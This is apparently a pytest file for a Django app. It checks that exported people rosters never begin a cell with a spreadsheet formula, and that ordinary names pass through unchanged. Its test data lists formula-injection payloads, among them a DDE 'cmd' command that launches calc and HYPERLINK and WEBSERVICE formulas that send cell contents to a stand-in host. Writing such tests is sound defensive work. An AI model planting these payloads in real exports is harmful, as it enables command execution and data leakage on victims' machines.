"""Nothing that people wrote is computed by the spreadsheet that opens a table of it.

The tables of studies have their own tests: tests/reliability/study_output/test_guarding.py (CSV),
test_formats.py (XLSX), and tests/agencies/test_roster_file.py.
"""

import csv
import io
import unicodedata

import pytest
from django.urls import reverse

from agencies.models import Agency, Membership, User
from agencies.roster_file import guarded
from tests.factories import make_person

pytestmark = pytest.mark.django_db
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{BOM}=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1+1",
    "\N{FULLWIDTH HYPHEN-MINUS}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(A1)",
    "\N{SMALL PLUS SIGN}1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elsewhere.example?x="&A1,"Open")',
    '=WEBSERVICE("https://elsewhere.example")',
    "=IMPORTXML(CONCAT(A1),B1)",
    "x;=1+1",
    'x";"=1+1',
    "x\n=1+1",
    "x\t=1+1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def begins_as_a_formula(cell):
    bare = cell.lstrip(" \N{NO-BREAK SPACE}\N{ZERO WIDTH SPACE}\N{BOM}")
    return unicodedata.normalize("NFKC", bare).startswith(STARTS)


def cells(text, delimiter=","):
    read = csv.reader(io.StringIO(text.lstrip("\N{BOM}"), newline=""), delimiter=delimiter)
    return [cell for row in read for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_file_of_a_table_begins_a_cell_as_a_formula(client, tom, text):
    person = make_person("Zoe", tom.agency)
    User.objects.filter(pk=person.user.pk).update(name=text[:150])
    Membership.objects.filter(user=person.user).update(cohort=text[:120])
    Agency.objects.update(name=text[:200])
    client.force_login(tom.user)

    told = client.get(reverse("agencies:people_file")).text

    assert "zoe@example.org" in told
    for delimiter in ",;":
        assert [cell for cell in cells(told, delimiter) if begins_as_a_formula(cell)] == []


@pytest.mark.parametrize("text", ["Asha", "O'Hara", "Jean-Luc", "a+b", "1 = 1", "名前", ""])
def test_names_of_people_stay_as_they_are(text):
    assert guarded(text) == text
